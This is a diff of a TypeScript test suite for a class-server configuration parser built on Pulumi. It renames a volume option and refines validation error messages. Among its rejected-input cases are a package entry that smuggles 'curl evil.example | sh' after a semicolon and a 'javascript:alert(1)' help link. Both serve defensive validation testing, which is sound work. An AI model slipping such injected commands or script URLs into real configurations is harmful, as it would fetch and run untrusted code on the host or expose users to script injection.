@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { ClassConfigError, LETS_ENCRYPT, LETS_ENCRYPT_STAGING, parseClassConfig, SECRET_IS_SET } from "../lib/classConfig";
+import { ClassConfigError, LETS_ENCRYPT, LETS_ENCRYPT_STAGING, parseClassConfig, SECRET_IS_SET } from "../lib/config/classConfig";
 
 /** A valid GitHub class, as Pulumi hands it over: every value a string, lists as JSON text. */
 const github: Record<string, unknown> = {
@@ -50,22 +50,22 @@ const badCases: BadCase[] = [
     { what: "an unknown auth provider", raw: { ...github, authProvider: "facebook" }, key: "authProvider", says: "expected github, google or oidc" },
     { what: "GitHub without a client id", raw: without(github, "oauthClientId"), key: "oauthClientId", says: "oauthClientId: got nothing; is required" },
     { what: "no client secret", raw: without(github, "oauthClientSecret"), key: "oauthClientSecret", says: "Fix: pulumi config set --secret oauthClientSecret -- <client secret>" },
-    { what: "Google with GitHub organizations", raw: { ...github, authProvider: "google", githubOrganizations: '["engr101"]' }, key: "githubOrganizations", says: "expected no GitHub organizations unless authProvider is github" },
+    { what: "Google with GitHub organizations", raw: { ...github, authProvider: "google", allowedUsers: '["ada@example.edu"]', githubOrganizations: '["engr101"]' }, key: "githubOrganizations", says: "expected no GitHub organizations unless authProvider is github" },
     { what: "GitHub with Google hosted domains", raw: { ...github, googleHostedDomains: '["example.edu"]' }, key: "googleHostedDomains", says: "expected no hosted domains unless authProvider is google" },
     { what: "OIDC without its token endpoint", raw: { ...oidc, oidcAuthorizeUrl: "https://login.example.edu/authorize", oidcUserdataUrl: "https://login.example.edu/userinfo" }, key: "oidcTokenUrl", says: "is required when authProvider is oidc" },
-    { what: "an ftp course repository", raw: { ...github, courseRepoUrl: "ftp://example.edu/course.git" }, key: "courseRepoUrl", says: "expected an https://, http://, ssh:// or git@host:path URL" },
+    { what: "an ftp course repository", raw: { ...github, courseRepoUrl: "ftp://example.edu/course.git" }, key: "courseRepoUrl", says: "expected an https://, ssh:// or git@host:path URL" },
     { what: "credentials in the course repository URL", raw: { ...github, courseRepoUrl: "https://ada:hunter2@github.com/example/course.git" }, key: "courseRepoUrl", says: "with no credentials in it (use courseRepoToken)" },
     { what: "a token with an ssh course repository", raw: { ...github, courseRepoUrl: "git@github.com:example/course.git", courseRepoToken: SECRET_IS_SET }, key: "courseRepoToken", says: "courseRepoToken: got a secret value; expected courseRepoUrl to be an https:// URL" },
-    { what: "an invalid CIDR", raw: { ...github, sshAllowedCidrs: '["203.0.113.300/32"]' }, key: "sshAllowedCidrs", says: "sshAllowedCidrs[0] expected CIDRs such as 203.0.113.4/32 or 2001:db8::/48. Fix: pulumi config set --path 'sshAllowedCidrs[0]' '203.0.113.4/32'" },
+    { what: "an invalid CIDR", raw: { ...github, sshAllowedCidrs: '["203.0.113.300/32"]' }, key: "sshAllowedCidrs", says: "sshAllowedCidrs[0]: got \"203.0.113.300/32\"; expected CIDRs such as 203.0.113.4/32 or 2001:db8::/48. Fix: pulumi config set --path 'sshAllowedCidrs[0]' '203.0.113.4/32'" },
     { what: "no SSH source at all", raw: { ...github, sshAllowedCidrs: "[]" }, key: "sshAllowedCidrs", says: "expected at least 1 item" },
     { what: "an unparseable memory limit", raw: { ...github, memoryLimit: "2GB" }, key: "memoryLimit", says: 'memoryLimit: got "2GB"; expected a size such as 512M or 2G' },
     { what: "a CPU limit that is not a number", raw: { ...github, cpuLimit: "two" }, key: "cpuLimit", says: "expected a number" },
     { what: "a colour that is not a colour", raw: { ...github, loginPrimaryColor: "crimson" }, key: "loginPrimaryColor", says: "expected a colour such as #1f6feb" },
-    { what: "a javascript: help link", raw: { ...github, loginHelpLinks: '[{"text":"Help","url":"javascript:alert(1)"}]' }, key: "loginHelpLinks", says: "loginHelpLinks[0].url expected an http(s) URL for help links" },
+    { what: "a javascript: help link", raw: { ...github, loginHelpLinks: '[{"text":"Help","url":"javascript:alert(1)"}]' }, key: "loginHelpLinks", says: "loginHelpLinks[0].url: got \"javascript:alert(1)\"; expected an http(s) URL for help links. Fix: pulumi config set --path 'loginHelpLinks[0].url' https://example.edu/engr101" },
     { what: "a plain-http logo", raw: { ...github, loginLogoUrl: "http://example.edu/logo.png" }, key: "loginLogoUrl", says: "expected an https URL for the logo" },
     { what: "a negative idle timeout", raw: { ...github, idleTimeoutSeconds: "-5" }, key: "idleTimeoutSeconds", says: "expected 0 (never cull) or more seconds" },
     { what: "a fractional volume size", raw: { ...github, volumeSizeGb: "1.5" }, key: "volumeSizeGb", says: "expected a whole number of GiB" },
-    { what: "yes for a boolean", raw: { ...github, protectVolume: "yes" }, key: "protectVolume", says: "expected true or false" },
+    { what: "yes for a boolean", raw: { ...github, retainVolume: "yes" }, key: "retainVolume", says: "expected true or false" },
     { what: "an unsupported image", raw: { ...github, image: "centos-stream-9-x64" }, key: "image", says: "expected ubuntu-24-04-x64 or debian-12-x64" },
     { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
     { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
@@ -111,9 +111,8 @@ test("a secret's value never appears in a message, only that it is set", () => {
 test("a minimal GitHub class gets the documented defaults", () => {
     const cfg = parseClassConfig(github);
     assert.equal(cfg.hostname, "engr101.example.edu");
-    assert.equal(cfg.dnsRecordName, "engr101");
     assert.equal(cfg.dnsProxied, false);
-    assert.deepEqual(cfg.droplet, { region: "nyc3", size: "s-2vcpu-4gb", image: "ubuntu-24-04-x64", volumeSizeGb: 20, protectVolume: true });
+    assert.deepEqual(cfg.droplet, { region: "nyc3", size: "s-2vcpu-4gb", image: "ubuntu-24-04-x64", volumeSizeGb: 20, retainVolume: true });
     assert.deepEqual(cfg.admin, { user: "instructor", sshKeys: [] });
     assert.deepEqual(cfg.ssh, { allowedCidrs: ["0.0.0.0/0", "::/0"], hasPrivateKey: false });
     assert.deepEqual(cfg.tls, { email: "prof@example.edu", acmeDirectoryUrl: LETS_ENCRYPT });
@@ -125,11 +124,11 @@ test("a minimal GitHub class gets the documented defaults", () => {
 test("Pulumi's string values become typed values", () => {
     const cfg = parseClassConfig({
         ...github,
-        volumeSizeGb: "50", protectVolume: "false", cpuLimit: "0.5", idleTimeoutSeconds: "0",
+        volumeSizeGb: "50", retainVolume: "false", cpuLimit: "0.5", idleTimeoutSeconds: "0",
         letsEncryptStaging: "true", dnsProxied: "true", sshAllowedCidrs: '["203.0.113.4/32","2001:db8::/48"]',
     });
     assert.equal(cfg.droplet.volumeSizeGb, 50);
-    assert.equal(cfg.droplet.protectVolume, false);
+    assert.equal(cfg.droplet.retainVolume, false);
     assert.equal(cfg.limits.cpu, 0.5);
     assert.equal(cfg.limits.idleTimeoutSeconds, 0);
     assert.equal(cfg.tls.acmeDirectoryUrl, LETS_ENCRYPT_STAGING);
@@ -144,7 +143,6 @@ test("a deeper hostname, upper case and duplicate names are normalized", () => {
         allowedUsers: '["Ada-Lovelace","ada-lovelace","alan"]', adminUsers: '["Prof"]',
     });
     assert.equal(cfg.hostname, "hub.engr101.example.edu");
-    assert.equal(cfg.dnsRecordName, "hub.engr101");
     assert.deepEqual(cfg.auth.allowedUsers, ["ada-lovelace", "alan"]);
     assert.deepEqual(cfg.auth.adminUsers, ["prof"]);
 });
